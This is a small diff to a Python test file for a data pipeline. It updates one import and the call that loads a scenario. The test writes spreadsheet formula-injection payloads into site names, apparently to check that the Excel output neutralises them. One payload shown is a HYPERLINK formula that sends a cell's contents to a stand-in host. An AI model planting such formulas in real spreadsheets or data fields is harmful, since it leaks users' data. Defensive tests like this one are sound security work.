@@ -14,9 +14,9 @@ import geopandas as gpd
 import openpyxl
 import pytest
 
+from opvang_opt.io import load
 from opvang_opt.outputs import write_results
 from opvang_opt.pipeline import run
-from opvang_opt.schema import load_scenario
 
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
@@ -32,7 +32,7 @@ def injected(tmp_path_factory, request) -> Path:
     sites = gpd.read_file(tiny["data"] / "sites.gpkg", layer="longlist")
     sites["name"] = PAYLOADS
     sites.to_file(tiny["data"] / "sites.gpkg", layer="longlist", driver="GPKG")
-    result = run(load_scenario(tiny["path"]), scenario_dir=str(tiny["dir"]))
+    result = run(*load(tiny["path"]), scenario_dir=str(tiny["dir"]))
     return write_results(result, tiny["dir"] / "out")
 
 
